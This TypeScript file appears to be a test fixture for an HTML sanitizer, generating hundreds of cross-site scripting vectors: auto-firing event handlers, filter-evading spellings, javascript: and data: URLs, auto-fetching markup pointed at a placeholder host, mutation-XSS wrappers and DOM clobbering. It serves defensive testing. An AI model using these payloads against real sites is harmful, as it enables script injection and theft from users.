/**
 * More than five hundred XSS vectors: tags that run or fetch, combined with events that fire
 * automatically and with spellings that filters overlook, and markup that changes its meaning when
 * it is parsed a second time (mutation XSS). A successful vector would set `hurt` or fetch from
 * `fetchedFrom`.
 */
export const fetchedFrom = 'https://fetched.invalid';

const act = 'window.hurt=1';
const tags = ['img', 'svg', 'video', 'audio', 'body', 'iframe', 'input', 'details', 'p', 'a'];
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];

/** An element with an event that may fire without user action. */
const eventVectors: readonly string[] = tags.flatMap((tag) =>
  events.map(
    (event) =>
      `<${tag} src=x:x href=x autofocus tabindex=1 open style="animation:x 1s" ${event}=${act}>t`,
  ),
);

/** Spellings of an attribute that filters may overlook. */
const writings: readonly ((attribute: string, value: string) => string)[] = [
  (attribute, value) => `<img src=x ${attribute.toUpperCase()}="${value}">`,
  (attribute, value) => `<img/src=x/${attribute}=${value}>`,
  (attribute, value) => `<img src=x\n${attribute}\n=\n'${value}'>`,
  (attribute, value) => `<img src=x\t${attribute}=\`${value}\`>`,
  (attribute, value) => `<img src=x \u000c${attribute}=${value}>`,
  (attribute, value) => `<img src="x"${attribute}="${value}">`,
  (attribute, value) => `<img src=x ${attribute}="&#119;indow.hurt=1${value.slice(13)}">`,
  (attribute, value) => `<<img src=x ${attribute}=${value}//`,
  (attribute, value) => `<img src=x:x a="<b>" ${attribute}="${value}" <p>`,
  (attribute, value) => `<img src='x' alt='"><img src=x ${attribute}=${value}>'>`,
  (attribute, value) => `<img """><img src=x ${attribute}=${value}>">`,
  (attribute, value) => `\u0000<im\u0000g src=x on\u0000${attribute.slice(2)}=${value}>`,
];
const writingVectors = events.flatMap((event) => writings.map((write) => write(event, act)));

/** URLs that run a script, or that look like ours and lead to another site. */
const schemes = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  ` javascript:${act}`,
  `java\tscript:${act}`,
  `java\nscript:${act}`,
  `java&#10;script:${act}`,
  `&#106;&#97;&#118;&#97;script:${act}`,
  `&#x6A;avascript&colon;${act}`,
  `\u0001javascript:${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>`,
  `blob:${fetchedFrom}/x`,
  `//fetched.invalid/x`,
  `\\\\fetched.invalid/x`,
  `/\\fetched.invalid/x`,
  `/\t/fetched.invalid/x`,
  `/..//fetched.invalid/x`,
  `http://fetched.invalid/x`,
  `https:fetched.invalid/x`,
  `https://user:pass@fetched.invalid/x`,
  `view-source:${fetchedFrom}`,
  `feed:javascript:${act}`,
];
const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}" autofocus>link</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button autofocus>go</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y="9">x</text></a></svg>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<base href="${address}"><a href="x">x</a>`,
  (address) => `<math href="${address}">x</math>`,
];
const addressVectors = schemes.flatMap((address) => places.map((place) => place(address)));

/** Markup that fetches automatically. */
const fetching: readonly string[] = [
  ...['src', 'srcset', 'lowsrc', 'dynsrc', 'longdesc', 'background'].map(
    (name) => `<img ${name}="${fetchedFrom}/${name}">`,
  ),
  ...['audio', 'video', 'embed', 'iframe', 'input type=image', 'track', 'source', 'script'].map(
    (tag) => `<${tag} src="${fetchedFrom}/x">`,
  ),
  ...['stylesheet', 'preload', 'prefetch', 'import', 'icon', 'dns-prefetch', 'manifest'].map(
    (rel) => `<link rel="${rel}" href="${fetchedFrom}/${rel}" as="script">`,
  ),
  ...['p', 'td', 'table', 'body', 'span', 'li'].map(
    (tag) => `<${tag} background="${fetchedFrom}/b" style="background:url(${fetchedFrom}/s)">t`,
  ),
  `<style>@import "${fetchedFrom}/i";*{background:url(${fetchedFrom}/c)}</style>`,
  `<style>@font-face{font-family:x;src:url(${fetchedFrom}/f)}p{font-family:x}</style><p>x</p>`,
  `<p style="list-style-image:url('${fetchedFrom}/l')">t</p>`,
  `<p style="width:expression(${act})">t</p>`,
  `<svg><image href="${fetchedFrom}/i"/><use href="${fetchedFrom}/u#x"/></svg>`,
  `<svg><filter id=f><feImage href="${fetchedFrom}/i"/></filter></svg>`,
  `<picture><source srcset="${fetchedFrom}/s"><img src="${fetchedFrom}/p"></picture>`,
  `<video poster="${fetchedFrom}/p" controls></video>`,
  `<a ping="${fetchedFrom}/p" href="/">x</a>`,
  `<portal src="${fetchedFrom}/x"></portal>`,
  `<img src="/media/../../evil-1.avif"><img src="/media/0123456789abcdef-1.avif@fetched.invalid">`,
  `<img src="https://fetched.invalid/media/0123456789abcdef0-640.avif">`,
];

/** Markup that changes its meaning when it is parsed, serialised, and parsed again. */
const shells: readonly ((inner: string) => string)[] = [
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}--></style></table></mtext>`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<svg><style>&lt;/style&gt;${inner}</style></svg>`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<textarea><img title="</textarea>${inner}"></textarea>`,
  (inner) => `<title><a title="</title>${inner}"></title>`,
  (inner) => `<xmp><p id="</xmp>${inner}"></p></xmp>`,
  (inner) => `<iframe><p title="</iframe>${inner}"></iframe>`,
  (inner) => `<template><div>${inner}</div></template>`,
  (inner) => `<table><caption><svg><desc>${inner}</desc></svg></caption></table>`,
  (inner) => `<select><template><style></select>${inner}</style></template></select>`,
  (inner) => `<annotation-xml encoding="text/html"><b>${inner}</b></annotation-xml>`,
  (inner) => `<svg><foreignObject><p>${inner}</p></foreignObject></svg>`,
  (inner) => `<!--><p>--!>${inner}<!-- -->`,
  (inner) => `<![CDATA[<p>]]>${inner}`,
  (inner) => `<?xml version="1.0"?>${inner}<?php ${inner} ?>`,
  (inner) => `<b><i><p></b>${inner}</i></p>`,
  (inner) => `<plaintext>${inner}`,
  (inner) => `<${'p><'.repeat(40)}p>${inner}`,
  (inner) => `&lt;b&gt;${inner.replaceAll('<', '&lt;')}`,
  (inner) => `<listing>&lt;/listing&gt;${inner}</listing>`,
  (inner) => `<object><param name="x" value="${inner.replaceAll('"', "'")}"></object>`,
  (inner) => `<x-slot><slot name="a">${inner}</slot></x-slot>`,
];
const inners = [
  `<img src=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `<script>${act}</script>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<img src="${fetchedFrom}/m">`,
];
const mutating = shells.flatMap((shell) => inners.map((inner) => shell(inner)));

/** Names that would shadow the page's own (DOM clobbering). */
const clobbering = ['body', 'forms', 'cookie', 'getElementById', 'currentScript', 'root', 'state']
  .flatMap((name) => [
    `<img name="${name}"><a id="${name}" href="/">x</a>`,
    `<form id="${name}"><input name="attributes"><input name="childNodes"></form>`,
  ])
  .concat(
    `<script>${act}</script>`,
    `<script/src="${fetchedFrom}/s"></script>`,
    `<script>//<![CDATA[\n${act}//]]></script>`,
    `<ScRiPt>${act}</sCrIpT>`,
    `<script\n>${act}</script\n>`,
    `<svg><script href="data:,${act}"/></svg>`,
    `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
    `<svg><set attributeName="href" to="javascript:${act}"/></svg>`,
    `<marquee onstart=${act}>x</marquee>`,
    `<button popovertarget=x>y</button><p popover id=x onbeforetoggle=${act}>z</p>`,
    `<input onfocus=${act} autofocus>`,
    `<keygen autofocus onfocus=${act}>`,
    `<p contenteditable onbeforeinput=${act} accesskey=x onclick=${act}>x</p>`,
    `<dialog open onclose=${act}><form method=dialog><button autofocus>x</button></form></dialog>`,
  );

/** Every vector, each once. */
export const hostileHtml: readonly string[] = [
  ...new Set([
    ...eventVectors,
    ...writingVectors,
    ...addressVectors,
    ...fetching,
    ...mutating,
    ...clobbering,
  ]),
];
